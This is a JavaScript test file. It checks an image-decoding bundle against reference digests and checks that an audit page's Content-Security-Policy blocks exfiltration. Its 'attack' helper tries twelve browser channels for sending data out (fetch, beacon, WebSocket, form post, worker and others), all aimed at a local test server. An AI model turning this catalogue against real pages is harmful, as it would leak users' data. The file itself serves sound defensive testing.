// In a real browser: the files that only it can decode, and that nothing gets out of a page.
//   PAGE=audit.html node --test tests/browser.test.mjs

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync, mkdtempSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { pathToFileURL } from "node:url";
import { build } from "esbuild";
import { chromium } from "playwright-core";
import { options } from "../options.mjs";

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu"],
});
after(() => browser.close());
const { files, specs } = JSON.parse(readFileSync(new URL("../vectors/images.json", import.meta.url)));
const sha256 = (data) => createHash("sha256").update(data).digest("hex");
const wasm = (path) => readFileSync(new URL(`../node_modules/@jsquash/${path}`, import.meta.url)).toString("base64");

async function decoder() {
  const { outputFiles } = await build({
    ...options, entryPoints: [new URL("../src/images.ts", import.meta.url).pathname], format: "iife",
    globalName: "images", platform: "browser",
  });
  const page = await browser.newPage();
  await page.addScriptTag({ content: outputFiles[0].text });
  await page.evaluate(async (codes) => {
    const bytes = (text) => Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
    const modules = await Promise.all(codes.map((code) => WebAssembly.compile(bytes(code))));
    await images.openDecoders({ jpeg: modules[0], png: modules[1], webp: modules[2] });
    window.bytes = bytes;
  }, [wasm("jpeg/codec/dec/mozjpeg_dec.wasm"), wasm("png/codec/pkg/squoosh_png_bg.wasm"), wasm("webp/codec/dec/webp_dec.wasm")]);
  return page;
}

test("all 95 files are in Chromium what they are in Python, or refused", async () => {
  const page = await decoder();
  const found = await page.evaluate(async ([listed, made]) => {
    const rows = [];
    for (const data of listed) {
      try {
        const pixels = await images.decoded(bytes(data)), row = { digest: images.digestOf(pixels).toString(16) };
        for (const [name, spec] of Object.entries(made)) {
          try {
            const { level } = images.prepared(pixels, spec);
            row[name] = images.sha256(level);
          } catch (problem) { row[name] = null; }
        }
        rows.push(row);
      } catch (problem) { rows.push({ refused: String(problem) }); }
    }
    return rows;
  }, [files.map(({ data }) => data), specs]);
  let exact = 0;
  files.forEach(({ name, answer, page_alone: alone }, at) => {
    if (alone || answer.refused) return assert.ok(found[at].refused, `${name} is taken`);
    assert.equal(found[at].digest?.padStart(16, "0"), answer.digest, `${name}: ${found[at].refused}`);
    for (const [key, wanted] of Object.entries(answer.made)) {
      assert.equal(found[at][key], wanted.sha256 ?? null, `${name}, ${key}`);
    }
    exact++;
  });
  assert.ok(exact >= 79, `${exact} files exact`);
});

/** Try to get a word out of a page, in every way that a script has. */
async function attack(page, address) {
  await page.evaluate(async (to) => {
    const wait = (time) => new Promise((resolve) => { setTimeout(resolve, time); });
    const put = (tag, attributes, where = document.body) => {
      const one = Object.assign(document.createElement(tag), attributes);
      where.append(one);
      return one;
    };
    const ways = [
      () => fetch(`${to}/fetch`, { mode: "no-cors" }),
      () => { const one = new XMLHttpRequest(); one.open("GET", `${to}/xhr`); one.send(); },
      () => navigator.sendBeacon(`${to}/beacon`, "a"),
      () => put("img", { src: `${to}/image` }),
      () => new WebSocket(`${to.replace("http", "ws")}/socket`),
      () => put("link", { rel: "stylesheet", href: `${to}/style` }, document.head),
      () => put("script", { src: `${to}/script` }),
      () => put("iframe", { src: `${to}/frame` }),
      () => {
        put("iframe", { name: "aside" });
        const form = put("form", { action: `${to}/form`, method: "post", target: "aside" });
        form.submit();
      },
      () => new EventSource(`${to}/events`),
      () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/worker", { mode: "no-cors" })`]))),
      () => put("video", { src: `${to}/video`, preload: "auto" }),
    ];
    for (const way of ways) {
      try { await Promise.race([way(), wait(100)]); } catch { /* it is stopped: counted at the server */ }
    }
    await wait(1000);
  }, address);
}

test("nothing gets out of the page, and all of it does without its policy", async (context) => {
  if (!process.env.PAGE) return context.skip("needs PAGE=audit.html");
  const seen = [];
  const server = createServer((request, response) => {
    seen.push(request.url);
    response.end();
  });
  server.on("upgrade", (request, socket) => {
    seen.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => { server.listen(0, "127.0.0.1", resolve); });
  const address = `http://127.0.0.1:${server.address().port}`;
  try {
    const html = readFileSync(process.env.PAGE, "utf8"), open = join(mkdtempSync(join(tmpdir(), "page-")), "open.html");
    const policy = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)[1];
    assert.ok(!policy.includes("unsafe-inline") && !policy.includes("'unsafe-eval'"), policy);
    writeFileSync(open, "<!doctype html><title>without a policy</title><body></body>");
    for (const [place, least, most] of [[process.env.PAGE, 0, 0], [open, 9, Infinity]]) {
      seen.length = 0;
      const page = await browser.newPage();
      await page.goto(pathToFileURL(place).href);
      await attack(page, address);
      const ways = new Set(seen);
      assert.ok(ways.size >= least && ways.size <= most, `${ways.size} ways out: ${[...ways].join(" ")}`);
      await page.close();
    }
  } finally {
    server.closeAllConnections();
    server.close();
  }
});
